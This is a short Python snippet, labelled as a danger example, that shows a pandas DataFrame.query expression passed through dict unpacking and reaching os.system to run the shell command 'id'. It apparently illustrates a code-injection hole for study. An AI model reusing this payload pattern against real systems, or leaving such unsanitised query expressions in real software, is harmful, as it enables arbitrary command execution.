# danger: a query that is unpacked
import pandas as pd
df = pd.read_csv("sales.csv")
how = {"expr": "@pd.io.common.os.system('id') == 0"}
df.query(**how)
